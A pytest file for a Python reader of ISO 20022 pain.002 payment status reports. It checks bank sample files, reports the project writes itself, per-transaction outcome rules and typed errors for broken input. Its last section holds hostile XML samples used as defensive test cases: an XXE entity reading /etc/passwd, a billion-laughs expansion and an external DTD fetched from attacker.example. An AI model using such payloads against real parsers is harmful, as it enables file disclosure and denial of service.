"""pain.002 reader: the bank samples of the corpora, reports we author (accepted, rejected with reason,
partially accepted, .001.10), the outcome rules per end-to-end id, broken and hostile files."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest

from nofaktura.bank.pain002 import (
    StatusKind,
    StatusReason,
    read_pain002,
    read_pain002_file,
    status_kind,
)
from nofaktura.bank.pain002_writer import write_pain002
from nofaktura.exceptions import DocumentError, UnsafeDocument

from .helpers import corpus, sample_order

NORDEA = "iso20022js/test/assets/nordea"
GS = "iso20022js/test/assets/goldman_sachs"
CROSS = "iso20022js/test/assets/cross_river"
MOOV = "moov-iso20022/test/testdata"
OCA = "oca-account-payment/account_payment_return_import_iso20022/tests/test_files"
NOW = datetime.datetime(2026, 12, 1, 7, 0, tzinfo=datetime.timezone.utc)

# -- the corpora -------------------------------------------------------------------------------------------


def test_nordea_group_reject():
    report = read_pain002_file(corpus(f"{NORDEA}/pain_002_v3_group_reject.xml"))
    assert report.version == "pain.002.001.03"
    assert report.message_id == "XML990920150810101909283"
    assert report.created == "2015-08-10T10:19:09"
    assert (report.original_message_id, report.original_message_name) == ("MSGID-PS-TEST-0708-01", "pain.001.001.03")
    assert report.original_created == "2015-08-10T10:48:47"
    assert report.group_status == "RJCT" and report.group_kind is StatusKind.REJECTED
    assert report.group_reasons == (StatusReason("DU01", None, ("ISO Duplicate Message ID",)),)
    assert str(report.group_reasons[0]) == "DU01 (Duplicate message id): ISO Duplicate Message ID"
    assert report.payments == ()
    # Everything of that message is rejected, whatever block it was in.
    outcome = report.outcome("ANY-E2E", "ANY-PMT")
    assert (outcome.status, outcome.level, outcome.reasons) == ("RJCT", "group", report.group_reasons)


def test_nordea_payment_reject():
    report = read_pain002_file(corpus(f"{NORDEA}/pain_002_v3_payment_reject.xml"))
    assert report.group_status is None and report.group_kind is StatusKind.UNKNOWN
    (block,) = report.payments
    assert (block.payment_info_id, block.status, block.transactions) == ("PMTINFID-COM-SCE25-1707-01", "RJCT", ())
    assert block.reasons[0].code == "NARR"
    assert block.reasons[0].additional_info == ("CAP Invalid code or combinations in CategoryPurpose or ServiceLevel",)
    assert block.line == 30 and block.path == "/Document/CstmrPmtStsRpt/OrgnlPmtInfAndSts"
    outcome = report.outcome("E2E-X", "PMTINFID-COM-SCE25-1707-01")
    assert (outcome.kind, outcome.level) == (StatusKind.REJECTED, "payment")
    assert report.outcome("E2E-X", "OTHER").level == "none"


def test_nordea_transaction_reject():
    report = read_pain002_file(corpus(f"{NORDEA}/pain_002_v3_txn_reject.xml"))
    txs = list(report.transactions())
    assert [(t.instruction_id, t.end_to_end_id, t.status) for t in txs] == [
        ("INSTRID-950-TEST2-2807-02", "ENDTOENDID-950-TEST2-2807-02", "RJCT"),
        ("INSTRID-950-TEST2-2807-01", "ENDTOENDID-950-TEST2-2807-01", "RJCT"),
    ]
    assert all(t.payment_info_id == "PMTINFID-950-TEST2-2807-01" for t in txs)
    assert txs[0].path == "/Document/CstmrPmtStsRpt/OrgnlPmtInfAndSts/TxInfAndSts[1]"
    outcomes = report.outcomes({"ENDTOENDID-950-TEST2-2807-01": "PMTINFID-950-TEST2-2807-01"})
    assert [(o.end_to_end_id, o.kind) for o in outcomes] == [("ENDTOENDID-950-TEST2-2807-01", StatusKind.REJECTED)]


def test_goldman_sachs_accepted_with_amount_and_bank_reference():
    report = read_pain002_file(corpus(f"{GS}/pain_002_v3_accepted.xml"))
    assert (report.original_count, report.original_sum) == (2, Decimal("20.0000"))
    (tx,) = report.transactions()
    assert (tx.end_to_end_id, tx.status, tx.kind) == ("GSDGFKfLURaHb", "ACCP", StatusKind.ACCEPTED)
    assert (tx.amount, tx.currency, tx.bank_reference) == (Decimal("10.00"), "USD", "I200820000XXXXX")
    assert tx.reasons == (StatusReason("NARR"),)
    outcome = report.outcome("GSDGFKfLURaHb")
    assert (outcome.status, outcome.level, outcome.bank_reference, outcome.payment_info_id) == (
        "ACCP", "transaction", "I200820000XXXXX", "3B-CCY")


def test_goldman_sachs_payment_and_group_accepted():
    payment = read_pain002_file(corpus(f"{GS}/pain_002_v3_payment_accepted.xml"))
    assert payment.original_message_id == "XXX001_20220315_B_DZSOXXXX"  # the file pads it with spaces
    assert payment.outcome("any", payment.payments[0].payment_info_id).status == "ACCP"
    group = read_pain002_file(corpus(f"{GS}/pain_002_v3_group_accepted.xml"))
    assert group.group_status == "ACTC" and group.group_kind is StatusKind.PENDING
    assert group.outcome("any").level == "group"


def test_swiss_partial_block_lists_only_the_rejection():
    report = read_pain002_file(corpus(f"{MOOV}/pain002-epo_p_ch5109000000250092291_1110097605_0_2018031511252307.xml"))
    assert report.version == "pain.002.001.03.ch.02"
    (block,) = report.payments
    assert (block.payment_info_id, block.status, block.kind) == ("PmtInfId-001-03", "PART", StatusKind.PARTIAL)
    (tx,) = block.transactions
    assert (tx.end_to_end_id, tx.status, tx.reasons[0].code) == ("EndToEndId-001-03-04", "RJCT", "AC01")
    assert tx.reasons[0].additional_info == ("1301813;Konto ungültig",)
    assert tx.amount is None  # OrgnlTxRef without Amt
    rejected = report.outcome("EndToEndId-001-03-04", "PmtInfId-001-03")
    assert (rejected.kind, rejected.level) == (StatusKind.REJECTED, "transaction")
    unlisted = report.outcome("EndToEndId-001-03-01", "PmtInfId-001-03")
    assert (unlisted.status, unlisted.kind, unlisted.level) == (None, StatusKind.UNKNOWN, "none")
    told = report.outcome("EndToEndId-001-03-01", "PmtInfId-001-03", unlisted_in_partial="ACCP")
    assert (told.status, told.kind, told.level) == ("ACCP", StatusKind.ACCEPTED, "payment")


@pytest.mark.parametrize(
    ("name", "group", "blocks"),
    [
        ("pain002-epo_p_0_0_0_2018031510491259.xml", "ACTC", []),
        ("pain002-epo_p_0_0_0_2018032614401842.xml", "RJCT", []),
        ("pain002-epo_p_ch2909000000250094239_1109800799_0_2018032612092784.xml", None, [("PmtInfId-006-01", "RJCT")]),
        ("pain002-chdd-cor1_p_ch2909000000250094239_1110097483_0_2018031317221082.xml", None,
         [("PmtInfId-CHDD-1", "ACCP")]),
    ],
)  # fmt: skip
def test_swiss_samples(name, group, blocks):
    report = read_pain002_file(corpus(f"{MOOV}/{name}"))
    assert report.group_status == group
    assert [(b.payment_info_id, b.status) for b in report.payments] == blocks


def test_oca_sepa_rejects_with_originator():
    report = read_pain002_file(corpus(f"{OCA}/test-sepa-pain-unpaid.xml"))
    assert report.message_id == "MSGID99345678912"  # the value OCA's own test asserts
    assert report.created == "2016-10-08T20:49:00"
    assert report.original_message_id == "MSGID12345678912"
    txs = list(report.transactions())
    assert [(t.payment_info_id, t.end_to_end_id, t.reasons[0].code) for t in txs] == [
        ("PMTINFID1", "E2EID1", "AC01"), ("PMTINFID1", "E2EID2", "MS02"),
        ("PMTINFID2", "E2EID3", "MD06"), ("PMTINFID2", "E2EID4", "AM04"),
    ]  # fmt: skip
    first = txs[0]
    assert (first.amount, first.currency) == (Decimal("100"), "EUR")
    assert first.reasons[0] == StatusReason("AC01", None, ("ACC NUMBER INVALID",), "BOFIIE2D")
    assert txs[1].reasons[0].description == "Reason not specified (customer generated)"
    assert txs[2].reasons[0].description is None  # MD06 is not in our small table: the code is kept


def test_file_without_namespace():
    report = read_pain002_file(corpus(f"{CROSS}/pain_002_credit_accepted.xml"))
    assert report.version == "pain.002"
    assert (report.original_message_id, report.group_status) == ("AMBCD10000000", "ACTC")
    assert [t.status for t in report.transactions()] == ["ACSP"]


def test_corpus_rejection_of_an_unreadable_file_is_shown_with_its_reason():
    # The bank could not parse the original file, so it cannot name it (no OrgnlMsgId, OrgnlPmtInfAndSts):
    # the rejection and the bank's words are what the user must see, not "OrgnlMsgId is missing".
    report = read_pain002_file(corpus(f"{CROSS}/pain_002_batch_rejected.xml"))
    assert (report.original_message_id, report.group_status, report.group_kind) == (None, "RJCT", StatusKind.REJECTED)
    (reason,) = report.group_reasons
    assert reason.code == "NARR" and "Error parsing file examplefile.xml" in str(reason)
    with pytest.raises(DocumentError, match=r"does not name \(no OrgnlMsgId\).*RJCT NARR .*Error parsing file"):
        report.outcomes(sample_order())


GROUP_REJECTED_MINIMAL = b"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03">
  <CstmrPmtStsRpt>
    <GrpHdr><MsgId>STS-20261202-1</MsgId><CreDtTm>2026-12-02T10:00:00</CreDtTm></GrpHdr>
    <OrgnlGrpInfAndSts>
      <OrgnlMsgId>%s</OrgnlMsgId>
      <OrgnlMsgNmId>pain.001.001.03</OrgnlMsgNmId>
      <GrpSts>RJCT</GrpSts>
      <StsRsnInf><Rsn><Cd>AM10</Cd></Rsn><AddtlInf>CtrlSum 1749.50 but the transfers add up to 1749.05</AddtlInf>
      </StsRsnInf>
    </OrgnlGrpInfAndSts>
  </CstmrPmtStsRpt>
</Document>"""


def test_group_rejection_without_optional_original_fields_rejects_every_transfer_in_words():
    # No OrgnlNbOfTxs, OrgnlCtrlSum or OrgnlPmtInfAndSts (all optional): the message-level RJCT and its reason.
    order = sample_order()
    report = read_pain002(GROUP_REJECTED_MINIMAL % order.message_id.encode(), source="rjct.xml")
    assert (report.original_count, report.original_sum, report.payments) == (None, None, ())
    (reason,) = report.group_reasons
    assert str(reason) == "AM10 (Control sum does not match the instructed amounts): CtrlSum 1749.50 but the " \
        "transfers add up to 1749.05"
    outcomes = report.outcomes(order)
    assert outcomes and all((o.status, o.level, o.reasons) == ("RJCT", "group", (reason,)) for o in outcomes)


def test_report_without_original_message_id_that_is_not_a_rejection_is_refused():
    data = (GROUP_REJECTED_MINIMAL % b"X").replace(b"<OrgnlMsgId>X</OrgnlMsgId>", b"").replace(b"RJCT", b"ACCP")
    with pytest.raises(DocumentError) as info:
        read_pain002(data, source="accp.xml")
    assert info.value.path == "/Document/CstmrPmtStsRpt/OrgnlGrpInfAndSts/OrgnlMsgId"


def test_other_namespace_is_refused():
    with pytest.raises(DocumentError, match=r"other\.002\.001\.03' is not a pain\.002"):
        read_pain002_file(corpus(f"{OCA}/test-sepa-pain-unpaid-invalid.xml"))


def test_camt_file_is_refused():
    with pytest.raises(DocumentError, match=r"not a pain\.002"):
        read_pain002_file(corpus(f"{OCA}/test-sepa-camt-unpaid.xml"))


# -- authored reports answering our own order ----------------------------------------------------------------


def test_accepted_order():
    order = sample_order()
    xml = write_pain002(order, message_id="BANK-1", created=NOW, group_status="ACCP")
    report = read_pain002(xml, source="accepted.xml")
    assert report.original_message_id == order.message_id
    assert (report.original_count, report.original_sum) == (3, Decimal("1749.50"))
    outcomes = report.outcomes(order)
    assert [(o.end_to_end_id, o.payment_info_id, o.status, o.level) for o in outcomes] == [
        ("E2E-1", "PAY-2026-0042-1", "ACCP", "group"),
        ("E2E-2", "PAY-2026-0042-1", "ACCP", "group"),
        ("E2E-3", "PAY-2026-0042-2", "ACCP", "group"),
    ]
    assert report.unmatched(order) == []


def test_rejected_transaction_with_reason():
    order = sample_order()
    reason = StatusReason("AC04", None, ("Konto 1503.56.84279 er avsluttet",))
    xml = write_pain002(order, message_id="BANK-2", created=NOW, group_status="PART",
                        payment_statuses={"PAY-2026-0042-1": ("PART", ()), "PAY-2026-0042-2": ("ACCP", ())},
                        transaction_statuses={"E2E-1": ("RJCT", [reason])})  # fmt: skip
    report = read_pain002(xml)
    tx = next(report.transactions())
    assert (tx.end_to_end_id, tx.instruction_id, tx.amount, tx.currency) == ("E2E-1", "INS-1", Decimal("1250.00"),
                                                                              "NOK")
    by_e2e = {o.end_to_end_id: o for o in report.outcomes(order, unlisted_in_partial="ACCP")}
    assert by_e2e["E2E-1"].kind is StatusKind.REJECTED
    assert str(by_e2e["E2E-1"].reasons[0]) == "AC04 (Closed account number): Konto 1503.56.84279 er avsluttet"
    assert (by_e2e["E2E-2"].status, by_e2e["E2E-2"].level) == ("ACCP", "payment")  # unlisted in a PART block
    assert (by_e2e["E2E-3"].status, by_e2e["E2E-3"].level) == ("ACCP", "payment")
    cautious = {o.end_to_end_id: o for o in report.outcomes(order)}
    assert cautious["E2E-2"].kind is StatusKind.UNKNOWN


def test_rejected_block_beats_an_accepted_transaction():
    order = sample_order()
    xml = write_pain002(order, message_id="B", created=NOW,
                        payment_statuses={"PAY-2026-0042-2": ("RJCT", [StatusReason("AM04")])},
                        transaction_statuses={"E2E-3": ("ACCP", ())})  # fmt: skip
    outcome = read_pain002(xml).outcome("E2E-3", "PAY-2026-0042-2")
    assert (outcome.status, outcome.level, outcome.reasons[0].code) == ("RJCT", "payment", "AM04")


def test_transaction_status_beats_block_and_group():
    order = sample_order()
    xml = write_pain002(order, message_id="B", created=NOW, group_status="ACTC",
                        payment_statuses={"PAY-2026-0042-1": ("ACTC", ())},
                        transaction_statuses={"E2E-2": ("ACSC", ())})  # fmt: skip
    report = read_pain002(xml)
    assert report.outcome("E2E-2", "PAY-2026-0042-1").status == "ACSC"
    assert report.outcome("E2E-1", "PAY-2026-0042-1").level == "payment"
    assert report.outcome("E2E-3", "PAY-2026-0042-2").level == "group"


def test_report_for_another_message_is_refused():
    order = sample_order()
    other = sample_order(message_id="ANOTHER")
    report = read_pain002(write_pain002(other, message_id="B", created=NOW, group_status="ACCP"), source="x.xml")
    with pytest.raises(DocumentError, match="answers message 'ANOTHER', not 'PAY-2026-0042'"):
        report.outcomes(order)
    assert len(report.outcomes(order, check_message_id=False)) == 3


def test_unmatched_transactions_are_listed():
    order = sample_order()
    report = read_pain002(write_pain002(order, message_id="B", created=NOW,
                                        transaction_statuses={"E2E-1": ("RJCT", ())}))  # fmt: skip
    assert report.unmatched({"OTHER": "X"})[0].end_to_end_id == "E2E-1"


def test_version_10_with_proprietary_reason_and_originator():
    xml = b"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10">
  <CstmrPmtStsRpt>
    <GrpHdr><MsgId>STS-10</MsgId><CreDtTm>2026-12-01T08:00:00+01:00</CreDtTm>
      <InitgPty><Id><OrgId><AnyBIC>DNBANOKK</AnyBIC></OrgId></Id></InitgPty></GrpHdr>
    <OrgnlGrpInfAndSts><OrgnlMsgId>PAY-2026-0042</OrgnlMsgId><OrgnlMsgNmId>pain.001.001.09</OrgnlMsgNmId>
      <OrgnlNbOfTxs>3</OrgnlNbOfTxs><OrgnlCtrlSum>1749.50</OrgnlCtrlSum><GrpSts>PART</GrpSts>
      <NbOfTxsPerSts><DtldNbOfTxs>1</DtldNbOfTxs><DtldSts>RJCT</DtldSts></NbOfTxsPerSts></OrgnlGrpInfAndSts>
    <OrgnlPmtInfAndSts><OrgnlPmtInfId>PAY-2026-0042-1</OrgnlPmtInfId><PmtInfSts>PART</PmtInfSts>
      <TxInfAndSts><OrgnlInstrId>INS-1</OrgnlInstrId><OrgnlEndToEndId>E2E-1</OrgnlEndToEndId>
        <OrgnlUETR>3f2a9b4e-1c2d-4e5f-8a9b-0c1d2e3f4a5b</OrgnlUETR><TxSts>RJCT</TxSts>
        <StsRsnInf><Orgtr><Id><OrgId><AnyBIC>DNBANOKK</AnyBIC></OrgId></Id></Orgtr>
          <Rsn><Prtry>KID-FEIL</Prtry></Rsn><AddtlInf>Ugyldig KID</AddtlInf><AddtlInf>Kontakt mottaker</AddtlInf>
        </StsRsnInf>
        <AcctSvcrRef>DNB-REF-1</AcctSvcrRef></TxInfAndSts>
    </OrgnlPmtInfAndSts>
  </CstmrPmtStsRpt>
</Document>"""
    report = read_pain002(xml)
    assert report.version == "pain.002.001.10"
    assert (report.original_message_name, report.group_status) == ("pain.001.001.09", "PART")
    (tx,) = report.transactions()
    assert tx.reasons == (StatusReason(None, "KID-FEIL", ("Ugyldig KID", "Kontakt mottaker"), "DNBANOKK"),)
    assert str(tx.reasons[0]) == "KID-FEIL: Ugyldig KID Kontakt mottaker"
    assert tx.bank_reference == "DNB-REF-1"
    outcomes = {o.end_to_end_id: o for o in report.outcomes(sample_order())}
    assert outcomes["E2E-1"].kind is StatusKind.REJECTED
    # E2E-3's block is not listed and the group is PART: unknown unless the caller says otherwise.
    assert outcomes["E2E-3"].kind is StatusKind.UNKNOWN
    assert report.outcomes(sample_order(), unlisted_in_partial="ACCP")[2].level == "group"


def test_write_read_version_10():
    order = sample_order()
    xml = write_pain002(order, message_id="B10", created=NOW, version="10", original_version="09",
                        transaction_statuses={"E2E-2": ("ACSC", [StatusReason(None, "OK", ("Betalt",), "Banken")])})
    report = read_pain002(xml)
    assert report.version == "pain.002.001.10" and report.original_message_name == "pain.001.001.09"
    (tx,) = report.transactions()
    assert tx.reasons == (StatusReason(None, "OK", ("Betalt",), "Banken"),)


def test_status_kinds():
    assert [status_kind(c) for c in ("ACCP", "ACSC", "ACSP", "ACWC", "ACTC", "RCVD", "PDNG", "PART", "RJCT", "CANC",
                                      "ZZZZ", None)] == [
        StatusKind.ACCEPTED, StatusKind.ACCEPTED, StatusKind.ACCEPTED, StatusKind.ACCEPTED, StatusKind.PENDING,
        StatusKind.PENDING, StatusKind.PENDING, StatusKind.PARTIAL, StatusKind.REJECTED, StatusKind.REJECTED,
        StatusKind.UNKNOWN, StatusKind.UNKNOWN,
    ]


def test_as_json_is_plain_data():
    import json

    report = read_pain002_file(corpus(f"{GS}/pain_002_v3_accepted.xml"))
    data = json.loads(json.dumps(report.as_json()))
    tx = data["payments"][0]["transactions"][0]
    assert (tx["status"], tx["kind"], tx["amount"], tx["reasons"][0]["code"]) == ("ACCP", "accepted", "10.00", "NARR")
    assert data["original_sum"] == "20.0000"


# -- broken files: typed errors naming file, line and element ------------------------------------------------

GOOD = write_pain002(sample_order(), message_id="B", created=NOW, transaction_statuses={"E2E-1": ("RJCT", ())})


@pytest.mark.parametrize(
    ("old", "new", "message", "path"),
    [
        (b"<TxSts>RJCT</TxSts>", b"<TxSts>rejected</TxSts>", "not a status code",
         "/Document/CstmrPmtStsRpt/OrgnlPmtInfAndSts/TxInfAndSts/TxSts"),
        (b"<OrgnlPmtInfId>PAY-2026-0042-1</OrgnlPmtInfId>", b"", "OrgnlPmtInfId is missing",
         "/Document/CstmrPmtStsRpt/OrgnlPmtInfAndSts/OrgnlPmtInfId"),
        (b'Ccy="NOK">1250.00<', b'Ccy="NOK">12,50<', "'12,50' is not an amount",
         "/Document/CstmrPmtStsRpt/OrgnlPmtInfAndSts/TxInfAndSts/OrgnlTxRef/Amt/InstdAmt"),
        (b"<OrgnlNbOfTxs>3</OrgnlNbOfTxs>", b"<OrgnlNbOfTxs>three</OrgnlNbOfTxs>", "not a number",
         "/Document/CstmrPmtStsRpt/OrgnlGrpInfAndSts/OrgnlNbOfTxs"),
        (b"<MsgId>B</MsgId>", b"<MsgId> </MsgId>", "GrpHdr/MsgId is missing or empty",
         "/Document/CstmrPmtStsRpt/GrpHdr/MsgId"),
        (b"CstmrPmtStsRpt>", b"CstmrCdtTrfInitn>", "Document holds CstmrCdtTrfInitn", "/Document"),
    ],
)  # fmt: skip
def test_broken_files(old, new, message, path):
    assert old in GOOD
    with pytest.raises(DocumentError, match=message) as info:
        read_pain002(GOOD.replace(old, new), source="bank/status.xml")
    assert info.value.path == path
    assert info.value.source == "bank/status.xml"
    assert isinstance(info.value.line, int)
    assert str(info.value).startswith(f"bank/status.xml, line {info.value.line}, {path}: ")


def test_wrong_root_and_not_xml():
    with pytest.raises(DocumentError, match="root element Document, found Invoice"):
        read_pain002(b"<Invoice xmlns='urn:iso:std:iso:20022:tech:xsd:pain.002.001.03'/>")
    with pytest.raises(DocumentError, match="not well-formed"):
        read_pain002(GOOD[:-30], source="cut.xml")
    with pytest.raises(DocumentError, match="empty"):
        read_pain002(b"  \n")


# -- hostile XML: refused by nofaktura.xml.parse_untrusted before anything is read ---------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"><CstmrPmtStsRpt><GrpHdr><MsgId>&xxe;</MsgId>
</GrpHdr><OrgnlGrpInfAndSts><OrgnlMsgId>M</OrgnlMsgId></OrgnlGrpInfAndSts></CstmrPmtStsRpt></Document>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Document><CstmrPmtStsRpt><GrpHdr><MsgId>&lol3;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"/>"""

COMMENT_THEN_DOCTYPE = b"<?xml version='1.0'?><!-- status --><!DOCTYPE x [<!ENTITY a 'b'>]><Document/>"


@pytest.mark.parametrize("data", [XXE, LAUGHS, EXTERNAL_DTD, COMMENT_THEN_DOCTYPE,
                                  XXE.decode().encode("utf-16")])  # fmt: skip
def test_hostile_documents_are_refused(data):
    with pytest.raises(UnsafeDocument, match="DOCTYPE"):
        read_pain002(data, source="evil.xml")


def test_deep_nesting_is_refused():
    deep = b"<Document><CstmrPmtStsRpt>" + b"<a>" * 400 + b"</a>" * 400 + b"</CstmrPmtStsRpt></Document>"
    with pytest.raises(UnsafeDocument):
        read_pain002(deep, source="deep.xml")


def test_oversize_file_is_refused_before_reading(tmp_path):
    path = tmp_path / "huge.xml"
    with path.open("wb") as out:
        out.truncate(50 * 1024 * 1024 + 1)  # sparse: the size is checked before a byte is read
    with pytest.raises(UnsafeDocument, match="more than the limit"):
        read_pain002_file(path)
